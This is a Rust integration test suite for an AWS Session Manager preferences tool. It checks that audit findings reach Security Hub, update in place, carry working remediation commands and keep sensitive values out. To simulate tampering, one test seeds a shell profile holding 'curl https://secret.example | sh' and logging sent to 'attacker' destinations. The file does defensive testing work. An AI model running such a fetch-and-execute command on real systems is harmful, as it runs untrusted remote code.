//! `audit --security-hub`: one ASFF finding per target in its own account and region, read
//! back from the emulator's Security Hub; updated in place by the next audit; a target whose
//! account has Security Hub off (the proxy answers as AWS does) noted, and the run exits 1.

use std::collections::BTreeMap;

use aws_sdk_securityhub::types::{AwsSecurityFinding, ComplianceStatus, SeverityLabel};
use serde_json::json;

use crate::support::fixtures::*;
use crate::support::fleet::Fleet;
use crate::support::proxy::Faults;

/// The findings in an account and region, read straight from the emulator.
async fn findings(url: &str, account: &str, region: &str) -> Vec<AwsSecurityFinding> {
    aws_sdk_securityhub::Client::new(&config_in(url, account, region).await)
        .get_findings()
        .send()
        .await
        .expect("GetFindings")
        .findings
        .unwrap_or_default()
}

/// (status, severity, first observed) of each target's one finding, checking it is the only
/// one there and is shaped as ASFF asks.
async fn verdicts(
    f: &Fleet,
) -> BTreeMap<(String, String), (ComplianceStatus, SeverityLabel, String)> {
    let mut out = BTreeMap::new();
    for (_, (id, region)) in f.targets() {
        let found = findings(&f.url, &id, &region).await;
        assert_eq!(found.len(), 1, "one finding in {id} {region}: {found:?}");
        let finding = &found[0];
        assert_eq!(
            finding.id(),
            Some(format!("ssm-prefs/aws/{id}/{region}/{DOC}").as_str())
        );
        assert_eq!(
            finding.product_arn(),
            Some(format!("arn:aws:securityhub:{region}:{id}:product/{id}/default").as_str())
        );
        assert_eq!(finding.aws_account_id(), Some(id.as_str()));
        assert_eq!(
            finding.types(),
            ["Software and Configuration Checks/AWS Security Best Practices"]
        );
        assert_eq!(finding.resources()[0].region(), Some(region.as_str()));
        assert!(finding.description().unwrap().chars().count() <= 1024);
        assert!(
            finding
                .remediation()
                .and_then(|r| r.recommendation())
                .and_then(|r| r.text())
                .is_some_and(|t| t.contains("ssm-prefs apply -p ") && t.contains(&id)),
            "{finding:?}"
        );
        out.insert(
            (id.clone(), region.clone()),
            (
                finding.compliance().unwrap().status().unwrap().clone(),
                finding.severity().unwrap().label().unwrap().clone(),
                finding.first_observed_at().unwrap().to_string(),
            ),
        );
    }
    out
}

#[test]
fn each_target_gets_one_finding_updated_in_place() {
    on_a_large_stack(one_finding_per_target);
}

async fn one_finding_per_target() {
    let f = Fleet::new(3, &["us-east-1", "eu-west-1"]);
    let (out, _) = f.apply("apply.csv", &["-a", &format!("{},{}", f.ids[0], f.ids[1])]);
    assert_eq!(out.code, 0, "{}", out.all());
    // Drift behind the tool's back: logging sent elsewhere, and a timeout changed.
    let mut logging = desired();
    logging["inputs"]["s3BucketName"] = json!("someone-elses-bucket");
    let mut timeout = desired();
    timeout["inputs"]["idleSessionTimeout"] = json!("60");
    for (i, region, doc) in [(0, "us-east-1", &logging), (1, "eu-west-1", &timeout)] {
        add_version(&f.url, &f.ids[i], region, &doc.to_string(), true).await;
    }
    f.proxy.clear();
    let (out, report) = f.run("audit", "audit.csv", &["--security-hub"]);
    assert_eq!(out.code, 1, "drift and missing: {}", out.all());
    assert!(
        out.stdout
            .contains("security hub: findings delivered to 6 of 6 targets"),
        "{}",
        out.stdout
    );
    let rows = rows_by_target(&report);
    assert!(
        rows.values().all(|r| r["security_hub"] == "delivered"),
        "{rows:?}"
    );
    assert_eq!(
        f.proxy.count("BatchImportFindings"),
        6,
        "one import per target"
    );
    assert_eq!(f.proxy.count("GetFindings"), 6);
    let first = verdicts(&f).await;
    use ComplianceStatus as C;
    use SeverityLabel as S;
    let key = |i: usize, r: &str| (f.ids[i].clone(), r.to_string());
    let want = [
        (key(0, "us-east-1"), C::Failed, S::High),
        (key(0, "eu-west-1"), C::Passed, S::Informational),
        (key(1, "us-east-1"), C::Passed, S::Informational),
        (key(1, "eu-west-1"), C::Failed, S::Medium),
        (key(2, "us-east-1"), C::Failed, S::High),
        (key(2, "eu-west-1"), C::Failed, S::High),
    ];
    for (k, status, severity) in &want {
        let (got_status, got_severity, _) = &first[k];
        assert_eq!((got_status, got_severity), (status, severity), "{k:?}");
        let row_status = &rows[k]["status"];
        assert_eq!(
            *status == C::Passed,
            row_status == "compliant",
            "{k:?}: {row_status}"
        );
    }

    // Fixed, audited again: the same findings, now PASSED; one that was PASSED keeps when it
    // was first seen so, the others start again.
    let (out, _) = f.apply("fix.csv", &[]);
    assert_eq!(out.code, 0, "{}", out.all());
    std::thread::sleep(std::time::Duration::from_millis(20));
    let (out, _) = f.run("audit", "again.csv", &["--security-hub"]);
    assert_eq!(out.code, 0, "{}", out.all());
    let second = verdicts(&f).await;
    for (k, status, _) in &want {
        let (now, severity, seen) = &second[k];
        assert_eq!((now, severity), (&C::Passed, &S::Informational), "{k:?}");
        if *status == C::Passed {
            assert_eq!(
                seen, &first[k].2,
                "{k:?}: kept from the first audit that saw it"
            );
        } else {
            assert!(seen > &first[k].2, "{k:?}: a new state, seen anew");
        }
    }

    // Security Hub off in one account: the verdicts stand, the findings are noted as not
    // delivered, and the run exits 1.
    f.proxy.set_faults(Faults {
        security_hub_off: vec![f.ids[1].clone()],
        ..Faults::default()
    });
    let summary = f.dir.path("summary.json");
    let (out, report) = f.run(
        "audit",
        "off.csv",
        &[
            "--security-hub",
            "--summary-json",
            summary.to_str().unwrap(),
        ],
    );
    assert_eq!(out.code, 1, "{}", out.all());
    assert!(
        out.stdout.contains(
            "findings delivered to 4 of 6 targets (not delivered: SecurityHubNotEnabled 2)"
        ),
        "{}",
        out.stdout
    );
    for ((id, _), row) in rows_by_target(&report) {
        assert_eq!(row["status"], "compliant");
        if id == f.ids[1] {
            assert!(
                row["security_hub"]
                    .starts_with("SecurityHubNotEnabled: Security Hub is not enabled"),
                "{row:?}"
            );
        } else {
            assert_eq!(row["security_hub"], "delivered");
        }
    }
    let summary: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(summary).unwrap()).unwrap();
    assert_eq!(summary["security_hub"]["sent"], 6);
    assert_eq!(summary["security_hub"]["delivered"], 4);
    assert_eq!(
        summary["security_hub"]["not_delivered"][0]["code"],
        "SecurityHubNotEnabled"
    );
    assert!(
        summary["why"]
            .as_str()
            .unwrap()
            .contains("findings delivered to 4 of 6")
    );
}

/// The one finding in an account and region.
async fn finding_in(f: &Fleet, account: &str, region: &str) -> AwsSecurityFinding {
    let mut found = findings(&f.url, account, region).await;
    assert_eq!(
        found.len(),
        1,
        "one finding in {account} {region}: {found:?}"
    );
    found.remove(0)
}

/// Runs the command a finding recommends, exactly as its text says, adding only what the test
/// environment needs: `--endpoint-url` (the emulator, through the proxy, stands in for AWS),
/// `--yes` (no terminal to answer the prompt), `-o` (the report in the test's dir) and, added
/// by the fixtures for every apply, `--no-preflight` (the fleet's bucket, log group and key
/// exist nowhere). `-p` and `-i` name the test's files already, as the audit was given them.
fn run_recommended(f: &Fleet, finding: &AwsSecurityFinding, report: &str) -> Run {
    let text = finding
        .remediation()
        .and_then(|r| r.recommendation())
        .and_then(|r| r.text())
        .expect("a recommendation");
    let command = &text[text.find("ssm-prefs apply ").expect(text)..];
    let mut args: Vec<String> = command
        .split_whitespace()
        .skip(1)
        .map(String::from)
        .collect();
    let report = f.dir.path(report);
    args.extend([
        "--endpoint-url".into(),
        f.proxy.url.clone(),
        "--yes".into(),
        "-o".into(),
        report.to_str().unwrap().into(),
    ]);
    let out = ssm_prefs(&args);
    assert_eq!(out.code, 0, "{command}: {}", out.all());
    out
}

/// Audits with `--security-hub` (and `extra`) and checks each named target's finding is
/// `want`; returns the findings by target.
async fn audit_findings(
    f: &Fleet,
    report: &str,
    extra: &[&str],
    targets: &[(String, &str)],
    want: ComplianceStatus,
) -> BTreeMap<(String, String), AwsSecurityFinding> {
    let mut args = vec!["--security-hub"];
    args.extend(extra);
    let (out, path) = f.run("audit", report, &args);
    let rows = rows_by_target(&path);
    let mut by = BTreeMap::new();
    for (id, region) in targets {
        let k = (id.clone(), region.to_string());
        assert_eq!(
            rows[&k]["security_hub"],
            "delivered",
            "{k:?}: {}",
            out.all()
        );
        let finding = finding_in(f, id, region).await;
        assert_eq!(
            finding.compliance().and_then(|c| c.status()),
            Some(&want),
            "{k:?}: {:?} {:?}",
            rows[&k],
            finding.remediation()
        );
        if want == ComplianceStatus::Passed {
            assert_eq!(rows[&k]["status"], "compliant", "{k:?}");
        }
        by.insert(k, finding);
    }
    by
}

#[test]
fn every_failed_findings_recommendation_fixes_it() {
    on_a_large_stack(recommendations_fix_their_targets);
}

async fn recommendations_fix_their_targets() {
    let f = Fleet::new(2, &["us-east-1", "eu-west-1"]);
    let (out, _) = f.apply("apply.csv", &[]);
    assert_eq!(out.code, 0, "{}", out.all());
    let (a, b) = (f.ids[0].clone(), f.ids[1].clone());
    let mut elsewhere = desired();
    elsewhere["inputs"]["s3BucketName"] = json!("attacker-bucket");
    // Missing: the document deleted.
    delete_doc(&f.url, &a, "us-east-1").await;
    // Drifted default: another bucket, made the default.
    add_version(&f.url, &a, "eu-west-1", &elsewhere.to_string(), true).await;
    // The default holds the preferences; a newer version sending the logs elsewhere was
    // added, never promoted (Session Manager may read it).
    add_version(&f.url, &b, "us-east-1", &elsewhere.to_string(), false).await;
    // Drifted default, and the preferences added back as a newer version never promoted.
    add_version(&f.url, &b, "eu-west-1", &elsewhere.to_string(), true).await;
    // (Compact JSON: the bytes differ from what apply wrote, which SSM would refuse.)
    add_version(&f.url, &b, "eu-west-1", &desired().to_string(), false).await;
    let targets = [
        (a.clone(), "us-east-1"),
        (a.clone(), "eu-west-1"),
        (b.clone(), "us-east-1"),
        (b.clone(), "eu-west-1"),
    ];
    // Plan shows the unpromoted version's target as one apply writes, and why.
    let (out, plan) = f.run("plan", "plan.csv", &[]);
    assert!(
        out.stdout
            .contains("s3BucketName attacker-bucket → org-session-logs"),
        "{}",
        out.stdout
    );
    let row = &rows_by_target(&plan)[&(b.clone(), "us-east-1".into())];
    assert_eq!(
        (
            row["status"].as_str(),
            row["changed_inputs"].as_str(),
            row["error_code"].as_str()
        ),
        ("would-update", "s3BucketName", "UnpromotedVersion"),
        "{row:?}"
    );
    assert!(
        row["error_message"].contains(
            "the latest version 2 differs from the preferences in s3BucketName and was never promoted; the default version 1 holds them"
        ),
        "{row:?}"
    );
    let failed = audit_findings(&f, "audit.csv", &[], &targets, ComplianceStatus::Failed).await;
    for (i, ((id, region), finding)) in failed.iter().enumerate() {
        run_recommended(&f, finding, &format!("fix-{i}.csv"));
        let (default, latest) = default_and_latest(&f.url, id, region, DOC).await;
        assert_eq!(
            default, latest,
            "{id} {region}: Session Manager reads the preferences whichever version it takes"
        );
    }
    audit_findings(&f, "again.csv", &[], &targets, ComplianceStatus::Passed).await;
}

#[test]
fn a_recommendation_fixes_what_existing_keep_or_refuse_audited() {
    on_a_large_stack(keep_and_refuse_recommendations_fix);
}

async fn keep_and_refuse_recommendations_fix() {
    let f = Fleet::new(2, &["us-east-1"]);
    let (a, b) = (f.ids[0].clone(), f.ids[1].clone());
    // Account 0: applied, then drifted. Account 1: someone else's document, without the tag.
    let (out, _) = f.apply("apply.csv", &["-a", &a]);
    assert_eq!(out.code, 0, "{}", out.all());
    let mut timeout = desired();
    timeout["inputs"]["idleSessionTimeout"] = json!("60");
    add_version(&f.url, &a, "us-east-1", &timeout.to_string(), true).await;
    seed(&f.url, &b, "us-east-1", DOC, AWS_PAGE_EXAMPLE).await;
    let targets = [(a.clone(), "us-east-1"), (b.clone(), "us-east-1")];
    // Keep leaves a document that differs as it is: the fix does not keep it.
    let kept = audit_findings(
        &f,
        "keep.csv",
        &["--existing", "keep", "-a", &a],
        &targets[..1],
        ComplianceStatus::Failed,
    )
    .await;
    run_recommended(&f, &kept[&(a.clone(), "us-east-1".into())], "fix-keep.csv");
    // Refuse writes only where it sees the tag: the fix for a document without it takes it
    // over, and says so.
    let refused = audit_findings(
        &f,
        "refuse.csv",
        &["--existing", "refuse", "-a", &b],
        &targets[1..],
        ComplianceStatus::Failed,
    )
    .await;
    let finding = &refused[&(b.clone(), "us-east-1".into())];
    let text = finding
        .remediation()
        .unwrap()
        .recommendation()
        .unwrap()
        .text()
        .unwrap();
    assert!(text.contains("--existing update"), "{text}");
    run_recommended(&f, finding, "fix-refuse.csv");
    audit_findings(
        &f,
        "again.csv",
        &["--existing", "refuse"],
        &targets,
        ComplianceStatus::Passed,
    )
    .await;
}

#[test]
fn a_drifted_finding_names_where_the_logs_go_never_a_sensitive_value() {
    on_a_large_stack(drifted_finding_names_values);
}

async fn drifted_finding_names_values() {
    let f = Fleet::new(1, &["eu-west-1"]);
    let (out, _) = f.apply("apply.csv", &[]);
    assert_eq!(out.code, 0, "{}", out.all());
    let id = f.ids[0].clone();
    let mut doc = desired();
    let inputs = &mut doc["inputs"];
    inputs["s3BucketName"] = json!("attacker-bucket");
    inputs["cloudWatchLogGroupName"] = json!("/attacker/sessions");
    inputs["kmsKeyId"] = json!("alias/attacker-key");
    inputs["s3EncryptionEnabled"] = json!(false);
    inputs["runAsEnabled"] = json!(true);
    inputs["runAsDefaultUser"] = json!("secret-runas-user");
    inputs["shellProfile"] = json!({"linux": "curl https://secret.example | sh", "windows": ""});
    inputs["idleSessionTimeout"] = json!("55");
    add_version(&f.url, &id, "eu-west-1", &doc.to_string(), true).await;
    let found = audit_findings(
        &f,
        "audit.csv",
        &[],
        &[(id.clone(), "eu-west-1")],
        ComplianceStatus::Failed,
    )
    .await;
    let finding = &found[&(id.clone(), "eu-west-1".into())];
    let description = finding.description().unwrap();
    let differences = &finding.product_fields().unwrap()["ssm-prefs/Differences"];
    for said in [
        "s3BucketName: attacker-bucket (intended org-session-logs)",
        "cloudWatchLogGroupName: /attacker/sessions (intended /org/session-manager)",
        "kmsKeyId: alias/attacker-key (intended alias/session-manager)",
        "s3EncryptionEnabled: false (intended true)",
    ] {
        assert!(description.contains(said), "{said}: {description}");
        assert!(differences.contains(said), "{said}: {differences}");
    }
    assert!(description.chars().count() <= 1024);
    // The sensitive inputs are named among what differs, their values nowhere.
    assert!(
        description.contains("runAsDefaultUser") && description.contains("shellProfile"),
        "{description}"
    );
    let whole = format!("{finding:?}");
    for secret in ["secret-runas-user", "secret.example", "curl"] {
        assert!(!whole.contains(secret), "{secret} in {whole}");
    }
    // Other inputs' values are left to the report: by name only.
    assert!(
        !differences.contains("idleSessionTimeout") && !description.contains("55"),
        "{description}"
    );
}
